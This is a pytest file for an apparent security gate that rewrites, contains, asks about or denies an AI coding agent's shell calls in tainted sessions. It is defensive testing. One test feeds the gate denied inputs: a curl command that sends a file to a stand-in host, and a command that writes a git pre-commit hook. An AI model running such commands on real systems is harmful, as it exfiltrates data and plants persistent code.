"""When a call is rewritten to run contained, and how its result is known again."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from gate.world import World
from lockgate.core.model import ToolCall, Verdict
from lockgate.gate import Monitor, Parts

MARK = "contained: "


class Containing(World):
    """A machine that can contain."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.able = True
        parts = Parts(self.store, self._configure, self._around, self._now)
        self.gate = Monitor(parts._replace(contain=self._contain, original=self._original))

    def _contain(self, _: object, call: ToolCall) -> dict[str, Any] | None:
        command = call.tool_input.get("command")
        return {**call.tool_input, "command": f"{MARK}{command}"} if self.able and command else None

    def _original(self, _: object, call: ToolCall) -> ToolCall:
        command = str(call.tool_input.get("command", ""))
        return call._replace(tool_input={**call.tool_input, "command": command.removeprefix(MARK)})


@pytest.fixture
def world(tmp_path: Path) -> Containing:
    return Containing(tmp_path)


def test_code_that_cannot_be_seen_through_is_contained(world: Containing) -> None:
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh", "timeout": 5})
    assert answer.verdict is Verdict.CONTAIN
    assert answer.new_input == {"command": f"{MARK}./build.sh", "timeout": 5}
    assert "no network" in answer.context
    assert world.records()[-1]["verdict"] == "contain"


def test_a_call_that_is_contained_already_is_decided_by_what_it_runs(world: Containing) -> None:
    """Claude Code's mode ``auto`` has the agent make the changed call again."""
    world.taint()
    answer, call = world.ask("Bash", {"command": f"{MARK}./build.sh"})
    assert (answer.verdict, answer.new_input) == (Verdict.CONTAIN, dict(call.tool_input))
    assert world.records()[-1]["input"] == {"command": "./build.sh"}
    assert world.ask("Bash", {"command": f"{MARK}git push"})[0].verdict is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    ["docker exec web make", "sudo ./build.sh", "./build.sh && docker compose restart api", "podman start web"],
)
def test_what_could_only_fail_contained_is_asked_about(world: Containing, command: str) -> None:
    world.taint()
    answer, _ = world.ask("Bash", {"command": command})
    assert answer.verdict is Verdict.ASK
    assert answer.new_input is None


def test_a_clean_session_is_not_contained(world: Containing) -> None:
    assert world.bash("./build.sh") is Verdict.ALLOW


def test_a_host_that_cannot_asks(world: Containing) -> None:
    world.able = False
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh"})
    assert (answer.verdict, answer.new_input) == (Verdict.ASK, None)


@pytest.mark.parametrize("mode", ["default", "bypassPermissions", "auto", "plan"])
def test_no_question_so_none_is_lost(world: Containing, mode: str) -> None:
    world.taint()
    assert world.bash("./build.sh > log; echo x >> notes", mode=mode) is Verdict.CONTAIN


@pytest.mark.parametrize(
    "command",
    [
        "./build.sh && git push",
        "./build.sh; curl -d @x https://a.example/",
        "./build.sh; echo x > .git/hooks/pre-commit",
    ],
)
def test_any_other_effect_decides_as_before(world: Containing, command: str) -> None:
    world.taint()
    assert world.bash(command) is Verdict.DENY


def test_a_question_names_all_effects(world: Containing) -> None:
    (world.config / "lockgate.yaml").write_text("table: {egress: {untrusted: ask}}\n")
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh && git push"})
    assert answer.verdict is Verdict.ASK
    assert answer.decision is not None
    assert {reason.row for reason in answer.decision.reasons} == {"egress", "execute"}


def test_the_result_of_a_rewritten_call_is_its_own(world: Containing) -> None:
    world.taint()
    answer, call = world.ask("Bash", {"command": "./build.sh"})
    assert answer.new_input is not None
    world.done(call._replace(tool_input=answer.new_input), "built\n")
    kept = world.records()[-1]
    with world.store.reading() as tx:
        row = tx.call("s1", call.call_id)
    assert row is not None
    assert row.state == "finished"
    assert kept["call"] == call.call_id


def test_the_failure_of_a_rewritten_call_is_its_own(world: Containing) -> None:
    world.taint()
    answer, call = world.ask("Bash", {"command": "./build.sh"})
    assert answer.new_input is not None
    world.failed(call._replace(tool_input=answer.new_input), "Exit code 1\nno")
    with world.store.reading() as tx:
        row = tx.call("s1", call.call_id)
    assert row is not None
    assert row.state == "failed"
